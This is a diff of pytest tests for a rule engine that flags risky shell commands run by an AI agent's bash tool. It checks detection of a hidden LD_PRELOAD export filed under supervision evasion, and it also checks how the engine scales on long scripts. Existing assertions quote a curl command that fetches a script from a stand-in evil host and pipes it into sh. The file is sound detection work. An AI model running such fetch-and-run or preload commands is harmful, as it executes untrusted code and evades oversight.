@@ -221,3 +221,28 @@ def test_in_a_long_script_rules_run_on_the_commands_that_hold_their_literals():
     findings = eng.analyze(from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": "\n".join(lines)}))
     by_rule = {f.rule: f.evidence["command"] for f in findings}
     assert by_rule == {"curl_to_evil": "curl -fsSL https://evil.example/i.sh", "fetched_into_shell": "sh"}
+
+
+def test_the_text_read_grows_with_the_script_not_with_assignments_times_commands():
+    from vigiles.analysis.engine import _expanded_text, _scope_text
+    from vigiles.analysis.shell import Session, ShellReader
+    script = "".join(f"V{i}=value{i}\n" for i in range(300)) + "ls -la /srv\n" * 300
+    cmds = ShellReader().read(script, Session())
+    assert cmds[-1].env["V299"] == "value299"  # every command still carries the variables
+    assert len(_expanded_text(cmds)) < 3 * len(script)
+    assert sum(len(_scope_text(c)) for c in cmds) < 3 * len(script)
+
+
+def test_a_rule_on_variables_still_sees_an_exported_one_in_a_long_script():
+    loader = Loader()
+    loader.add_text(textwrap.dedent("""
+        - rule: preload
+          title: LD_PRELOAD set
+          category: supervision_evasion
+          severity: high
+          condition: cmd.env icontains "LD_PRELOAD="
+    """), "env.yaml")
+    eng = Engine(loader.build())
+    script = "\n".join(["make -C src"] * 50 + ["export LD_PRELOAD=/tmp/.x.so", "ls /"] + ["make -C docs"] * 50)
+    findings = eng.analyze(from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": script}))
+    assert [f.rule for f in findings] == ["preload"]
